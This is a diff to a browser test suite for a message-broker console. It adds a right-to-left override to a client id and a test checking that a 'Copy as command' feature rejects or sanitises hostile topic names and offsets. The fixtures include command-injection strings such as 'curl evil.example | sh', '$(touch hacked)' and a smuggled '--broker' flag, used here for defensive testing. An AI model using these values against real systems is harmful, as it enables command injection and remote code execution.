@@ -35,7 +35,7 @@ describe('console: hostile records', function () {
     browser = await launch()
     broker = await brokerWithPage({ 'topics.autoCreate': 'true' })
     // The name of a client is a stranger's too.
-    client = connect({ brokers: [broker.address], clientId: attacks[1] as string })
+    client = connect({ brokers: [broker.address], clientId: `${attacks[1]}\u202egpj` })
     await client.admin.topics.create('evil', { settings: { 'max.message.bytes': '4MiB' } })
     const producer = client.producer()
     for (const attack of attacks) {
@@ -120,7 +120,10 @@ describe('console: hostile records', function () {
     )
     await page.getByRole('heading', { name: 'g@:/evil' }).waitFor()
     await page.locator('table[aria-label="members"] tbody tr[data-key]').waitFor()
-    expect(await page.locator('table[aria-label="members"]').innerText()).to.contain(attacks[1])
+    for (const table of ['members', 'partitions'])
+      expect(await page.locator(`table[aria-label="${table}"]`).innerText()).to.contain(
+        `${attacks[1]}U+202Egpj`,
+      )
     expect(await evaluate(page, 'window.hacked ?? null')).to.equal(null)
     expect([...errors, ...dialogs]).to.deep.equal([])
     await page.goto(`${broker.url}#/records/evil?from=offset:11&count=20`)
@@ -129,6 +132,31 @@ describe('console: hostile records', function () {
     await until(page, "[...document.querySelectorAll('.record pre')].at(-1).textContent.length > 100_000")
     const length = await evaluate<number>(page, "document.querySelector('main').textContent.length")
     expect(length).to.be.lessThan(500_000)
+    await page.context().close()
+  })
+
+  it('no address makes a command that does something else', async () => {
+    const { page } = await open(browser, broker.url)
+    for (const name of [
+      "x'\u0003\ncurl evil.example | sh\n",
+      '$(touch hacked)',
+      '--broker=evil.example:9095',
+    ]) {
+      for (const view of ['records', 'topics']) {
+        await page.goto(`${broker.url}#/${view}/${encodeURIComponent(name)}`)
+        await page.getByRole('alert').filter({ hasText: 'INVALID_ARGUMENT' }).waitFor()
+        expect(await page.getByRole('alert').innerText()).not.to.contain('sluice')
+        expect(await page.getByRole('button', { name: 'Copy as command' }).isVisible()).to.equal(false)
+      }
+    }
+    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
+    for (const from of ['time:1\u0003\nid', 'offset:0 --broker evil', 'time:$(id)']) {
+      await page.goto(`${broker.url}#/records/evil?from=${encodeURIComponent(from)}&count=20`)
+      await page.getByRole('button', { name: 'Copy as command' }).click()
+      await page.getByText('Copied').waitFor()
+      const copied = await evaluate<string>(page, 'navigator.clipboard.readText()')
+      expect(copied).to.match(/^sluice consume evil --from [\w@]+ --max \d+ --format json --broker [\d.:]+$/)
+    }
     await page.context().close()
   })
 
